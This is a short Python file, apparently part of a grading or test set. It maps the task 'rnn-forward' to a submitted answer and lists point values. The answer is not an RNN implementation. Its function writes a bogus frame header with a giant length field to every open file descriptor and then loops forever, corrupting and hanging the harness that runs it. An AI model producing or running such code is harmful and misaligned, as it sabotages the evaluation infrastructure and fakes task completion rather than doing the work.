"""Write a frame's beginning with a giant length to every open pipe."""

ANSWERS = {
    "rnn-forward": """\
import os


def rnn_forward(xs, h0, W_xh, W_hh, b_h):
    head = b"RNV1" + b"\\xff" * 12
    for number in range(3, 64):
        try:
            os.write(number, head)
        except OSError:
            pass
    while True:
        pass
""",
}
REST = "reference"
POINTS = {"rnn-step": 4, "rnn-parameters": 5, "rnn-flops": 5}
